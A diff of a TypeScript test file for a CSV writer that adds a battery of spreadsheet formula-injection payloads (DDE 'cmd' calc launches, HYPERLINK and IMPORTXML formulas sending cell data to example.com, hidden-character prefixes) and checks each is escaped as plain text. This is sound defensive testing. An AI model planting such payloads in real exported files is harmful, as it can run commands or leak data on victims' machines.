@@ -1,28 +1,50 @@
 import { text } from "node:stream/consumers";
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
+import { readCsv } from "../../test/support/read-csv.ts";
 import { csvRecord, csvStream } from "./csv.ts";
-
-/** Reads RFC 4180 strictly: a quote inside a cell without quotes is an error. */
-function parse(file: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  for (let at = 0; at < file.length; ) {
-    const cell = /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(file.slice(at));
-    if (!cell) throw new Error(`not CSV at ${at}: ${JSON.stringify(file.slice(at, at + 40))}`);
-    row.push(cell[1]?.replaceAll('""', '"') ?? cell[2] ?? "");
-    if (cell[3] === "\r\n") {
-      rows.push(row);
-      row = [];
-    }
-    at += cell[0].length;
-  }
-  return rows;
-}
 
 async function* once<T>(...batches: T[]) {
   yield* batches;
 }
+
+/** What no cell may begin with, blanks and what nobody sees left aside. */
+const computed = /^(?:[\t\r\n]|[\s\p{C}]*[=+\-@＝＋－＠])/u;
+
+describe("payloads that spreadsheets would compute", () => {
+  const acts = [
+    "1+1",
+    "cmd|' /C calc'!A0",
+    'HYPERLINK("http://example.com?x="&A1,"click")',
+    "SUM(1+1)*cmd|' /C calc'!A0",
+    'IMPORTXML(CONCAT("http://example.com",A1),"//a")',
+    'DDE("cmd";"/C calc";"x")',
+    'WEBSERVICE("http://example.com")',
+    "A1:A9",
+    "2+5+cmd|' /C calc'!A0",
+    "",
+  ];
+  const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n"];
+  const before = ["", " ", "\t", "\r\n", "\u3000", "\u00a0", "\u200b", "\ufeff", "\u202e"];
+  const payloads = before.flatMap((hidden) =>
+    // Behind something else a tab or a line break is a blank like others.
+    signs
+      .filter((sign) => hidden === "" || sign.trim() !== "")
+      .flatMap((sign) => acts.map((act) => `${hidden}${sign}${act}`)),
+  );
+
+  test("are many", () => {
+    expect(new Set(payloads).size).toBeGreaterThan(200);
+  });
+
+  test("stay text, each a cell of its own, in a cell's middle place too", () => {
+    for (const payload of payloads) {
+      const [row = []] = readCsv(csvRecord(["a", payload, "b"]));
+      expect(row).toHaveLength(3);
+      expect(row[1]).toBe(`'${payload}`);
+    }
+  });
+});
 
 describe("a CSV record", () => {
   test.for([
@@ -60,14 +82,14 @@ test("any text comes back as it was, but for the apostrophe, and never as a form
   );
   fc.assert(
     fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 4 }), (rows) => {
-      const read = parse(rows.map(csvRecord).join(""));
+      const read = readCsv(rows.map(csvRecord).join(""));
       expect(read).toHaveLength(rows.length);
       for (const [at, row] of rows.entries()) {
         expect(read[at]).toHaveLength(row.length);
         for (const [place, value] of row.entries()) {
           const back = read[at]?.[place] ?? "";
           expect([value, `'${value}`]).toContain(back);
-          expect(back).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+          expect(back).not.toMatch(computed);
         }
       }
     }),
